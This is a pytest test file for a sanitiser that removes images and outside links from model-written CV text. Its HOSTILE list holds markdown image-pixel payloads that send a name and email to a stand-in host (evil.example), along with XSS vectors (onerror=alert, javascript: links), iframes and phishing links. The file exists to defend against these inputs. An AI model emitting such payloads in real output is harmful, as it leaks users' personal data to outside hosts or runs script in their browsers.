"""The one sanitiser: model output is text, with no images and no links except the CV's own URLs."""

from __future__ import annotations

import re

import pytest

from core import sanitize

CV = {
    "basics": {"url": "https://janedoe.dev", "profiles": [{"network": "GitHub", "url": "https://github.com/janedoe"}]}
}
ALLOWED = sanitize.cv_urls(CV, "Portfolio: www.janedoe-design.com/work")

HOSTILE = [
    "![pixel](https://evil.example/p.png?name=Jane+Doe&email=jane@example.com)",
    '![pixel](<https://evil.example/a b.png> "title")',
    "![pixel](//evil.example/p.png)",
    "![pixel](/\\evil.example/p.png)",
    "![x][ref]\n\n[ref]: https://evil.example/p.png",
    "[![badge](https://evil.example/b.svg)](https://evil.example)",
    "![![nested](https://evil.example/1)](https://evil.example/2)",
    '<img src="https://evil.example/i.png">',
    "<IMG SRC=https://evil.example/i.png onerror=alert(1)>",
    "[click me](https://evil.example/phish)",
    "[click me](javascript:alert(1))",
    "<https://evil.example/auto>",
    "see https://evil.example/x?cv=Jane.",
    "www.evil.example/track",
    "data:image/png;base64,iVBORw0KGgo=",
    "![a](http&#58;//evil.example/entity.png)",
    "<!-- ![hidden](https://evil.example/c.png) -->",
    "<iframe src=https://evil.example></iframe>",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_clean_text_leaves_no_image_and_no_outside_url(text: str) -> None:
    out = sanitize.clean_text(f"Jane is great. {text}\nHire her.", ALLOWED)
    assert "![" not in out
    assert [] == sanitize.outside_urls(out, ALLOWED)
    assert "evil.example" not in out
    assert not re.search(r"<\s*(img|iframe|a)\b", out, re.I)
    assert out.startswith("Jane is great.") and out.endswith("Hire her.")


@pytest.mark.parametrize("text", HOSTILE)
def test_to_markdown_cannot_form_an_image_or_link(text: str) -> None:
    out = sanitize.to_markdown(text, ALLOWED)
    assert "evil.example" not in out
    assert not re.search(r"(?<!\\)!(?<!\\)\[", out)  # no unescaped "![" anywhere
    assert not re.search(r"(?<!\\)\]\(", out)  # no unescaped "](" (a link target)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("[my site](https://janedoe.dev)", "my site (https://janedoe.dev)"),
        ("https://github.com/janedoe", "https://github.com/janedoe"),
        ("http://www.janedoe.dev/", "http://www.janedoe.dev/"),
        ("See janedoe-design.com/work.", "See janedoe-design.com/work."),
        ("https://github.com/janedoe?leak=Jane", sanitize.REMOVED),
        ("https://github.com/janedoe.evil.example", sanitize.REMOVED),
    ],
)
def test_the_cvs_own_urls_stay_and_only_they(text: str, expected: str) -> None:
    assert expected == sanitize.clean_text(text, ALLOWED)


@pytest.mark.parametrize(
    "text",
    ["C++ and C# developer", "Cut costs by 12% (≈ £40k)", "<5 years of SQL", "A/B testing, R&D", "Python 3.11"],
)
def test_ordinary_cv_text_is_unchanged(text: str) -> None:
    assert text == sanitize.clean_text(text, ALLOWED)


def test_to_markdown_shows_markdown_characters_literally() -> None:
    assert r"\*\*not bold\*\* and \#hash and \$x\$" == sanitize.to_markdown("**not bold** and #hash and $x$")


def test_clean_data_cleans_every_string_and_keeps_the_shape() -> None:
    data = {"basics": {"summary": "![x](https://evil.example/a)ok"}, "work": [{"highlights": ["[a](http://e.vil)"]}]}
    assert {"basics": {"summary": "xok"}, "work": [{"highlights": ["a"]}]} == sanitize.clean_data(data)


def test_clean_data_survives_a_deep_value() -> None:
    deep: dict = {}
    node = deep
    for _ in range(5000):
        node["x"] = {}
        node = node["x"]
    sanitize.clean_data(deep)  # no RecursionError: past 64 levels the rest is dropped


@pytest.mark.parametrize(
    "text",
    ["![" * 30000, "<a " * 20000, "[" * 60000, "[x](" * 15000, "http://" + "a" * 60000, "<b" + " x" * 30000,
     "<http://" * 8000, "[a]: " * 12000, "![a](" + "(" * 30000, "<!--" * 15000],
    ids=["images", "tags", "brackets", "links", "long-url", "open-tag", "autolinks", "refdefs", "parens", "comments"],
)  # fmt: skip
def test_pathological_text_is_cleaned_in_linear_time(text: str) -> None:
    """60,000 characters of half-open constructs: a quadratic regex would take many seconds."""
    import time

    start = time.process_time()
    sanitize.clean_text(text)
    sanitize.to_markdown(text)
    assert time.process_time() - start < 1.0
